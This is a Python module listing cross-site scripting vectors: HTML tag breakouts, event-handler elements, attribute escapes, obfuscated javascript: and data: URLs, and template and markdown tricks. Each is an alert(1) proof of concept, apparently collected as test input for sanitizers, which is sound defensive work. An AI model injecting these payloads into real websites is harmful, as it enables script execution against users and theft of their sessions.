"""Hostile markup: every way that we know of to make a browser run what somebody typed. Each would open a dialog."""

import base64
from itertools import product

#: What comes before, to get out of where the words were put.
BREAKOUTS = (
    "",
    '">',
    "'>",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</noscript>",
)

ELEMENTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert`1`//",
    "<body onpageshow=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<style onload=alert(1)>@import 'x';</style>",
    "<link rel=stylesheet href=data:text/css,x onload=alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<template><script>alert(1)</script></template><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<base href=javascript:alert(1)//>",
    "<form action=javascript:alert(1)><button autofocus>x</button></form>",
    "<button formaction=javascript:alert(1) form=x>x</button>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<xmp><p title='</xmp><svg onload=alert(1)>'></xmp>",
    "<p style='animation-name:x' onanimationstart=alert(1)>x</p>",
    "<script src=//127.0.0.1:9/x.js onerror=alert(1)></script>",
)

#: Out of an attribute's value, but not out of its element.
ATTRIBUTES = tuple(
    f"{quote}{gap}{event}{gap}x={quote}"
    for quote, gap, event in product(
        ('"', "'", "`", ""), (" ", "/", "\t"), ("autofocus onfocus=alert(1)", "onpointerenter=alert(1)")
    )
)

_ENCODED = base64.b64encode(b"<script>alert(1)</script>").decode()
URLS = (
    *("javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)"),
    *("java\tscript:alert(1)", "java\nscript:alert(1)", "java\rscript:alert(1)", "javascript\t:alert(1)"),
    *("javascript&colon;alert(1)", "&#106;avascript:alert(1)", "java&Tab;script:alert(1)"),
    *("&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "javascript&#58;alert(1)"),
    *("javascript://%0aalert(1)", "javascript://x/%0a%0dalert(1)", "javascript:/*x*/alert(1)"),
    *("javascript:%61lert(1)", "\u00a0javascript:alert(1)", "\u2028javascript:alert(1)"),
    *("\ufeffjavascript:alert(1)", "ｊavascript:alert(1)", "jav\u00adascript:alert(1)"),
    *("data:text/html,<script>alert(1)</script>", f"data:text/html;base64,{_ENCODED}"),
    *("data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "vbscript:alert(1)"),
    *("blob:javascript:alert(1)", "view-source:javascript:alert(1)", "feed:javascript:alert(1)"),
    *("//127.0.0.1:9/x", "/\\127.0.0.1:9/x", "https:javascript:alert(1)", "filesystem:javascript:alert(1)"),
    *("javascript:alert(1)//https://example.org/", 'https://x.example/" onfocus=alert(1) autofocus x="'),
)

#: Through a template, a script that holds data, another encoding.
ODDITIES = (
    *("{{ 7|add:7 }}{% debug %}", "{% load static %}<script>alert(1)</script>", "${alert(1)}", "#{alert(1)}"),
    *("{{constructor.constructor('alert(1)')()}}", "<!--<script>alert(1)</script>-->", "<![CDATA[<script>"),
    *('"}</script><script>alert(1)</script>', '","x":alert(1),"', "\u2028alert(1)//", "\u2029alert(1)//"),
    *(
        "<!--><script>alert(1)</script>",
        "<!--<script>",
        "<script>/*",
        "*/alert(1)</script>",
        "<?xml?><script>",
    ),
    *("\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e"),
    *("&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;img src=x onerror=alert(1)&amp;gt;"),
    *("%3Cscript%3Ealert(1)%3C/script%3E", "%253Cscript%253Ealert(1)%253C/script%253E"),
    *("+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "＜script＞alert(1)＜/script＞", "\u0130<ſcript>alert(1)"),
    *("<ſcript>alert(1)</ſcript>", "<img/src=`x`onerror=alert(1)>", "<IMG SRC=x ONERROR=ALERT(1)>"),
    *(
        "<img src=x\nonerror\n=\nalert(1)>",
        "<img src=x onerror=alert&lpar;1&rpar;>",
        "<a\x0bonfocus=alert(1)>",
    ),
    *(
        "[x](javascript:alert(1))",
        '![x](x"onerror="alert(1))',
        "<javascript:alert(1)>",
        "[x]: javascript:alert(1)",
    ),
    *(
        '=HYPERLINK("javascript:alert(1)")',
        "x\u202e<script>alert(1)</script>",
        "<script\u2028>alert(1)</script>",
    ),
)


def ours() -> list[str]:
    """Every vector written here."""
    broken_out = (breakout + element for element, breakout in product(ELEMENTS, BREAKOUTS))
    return list(dict.fromkeys([*broken_out, *ATTRIBUTES, *URLS, *ODDITIES]))
